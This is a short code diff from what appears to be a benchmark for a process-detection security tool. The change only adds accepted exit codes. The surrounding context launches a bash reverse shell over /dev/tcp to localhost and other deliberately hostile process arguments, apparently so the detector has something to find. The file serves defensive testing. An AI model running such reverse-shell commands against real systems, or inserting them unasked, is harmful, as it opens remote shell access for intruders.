@@ -54,14 +54,14 @@ export async function run(): Promise<void> {
     const shell = start(children, '/bin/bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1; true`]);
     await new Promise((resolve) => setTimeout(resolve, 1000));
     const args = [BIN, 'detect', '--format', 'json', '--quiet', '--no-audit'];
-    const alone = timeCommand('detect, reverse shell alone', process.execPath, args, {runs: 3, env});
+    const alone = timeCommand('detect, reverse shell alone', process.execPath, args, {runs: 3, env, exitCodes: [0, 1, 3]});
     const aloneOutcome = outcome(env, shell.pid ?? 0);
     for (const [index, hostile] of HOSTILE_ARGVS.entries()) {
       const [program, ...rest] = hostile.argv(SIZE(index));
       start(children, program as string, rest);
     }
     await new Promise((resolve) => setTimeout(resolve, 1000));
-    const beside = timeCommand(`detect, beside ${HOSTILE_ARGVS.length} hostile argvs`, process.execPath, args, {runs: 3, env});
+    const beside = timeCommand(`detect, beside ${HOSTILE_ARGVS.length} hostile argvs`, process.execPath, args, {runs: 3, env, exitCodes: [0, 1, 3]});
     const besideOutcome = outcome(env, shell.pid ?? 0);
     report('detect with a reverse shell, alone and beside processes whose argvs are written against the rules', [alone, beside], alone);
     process.stdout.write(`alone: ${aloneOutcome}\nbeside: ${besideOutcome}\n`);
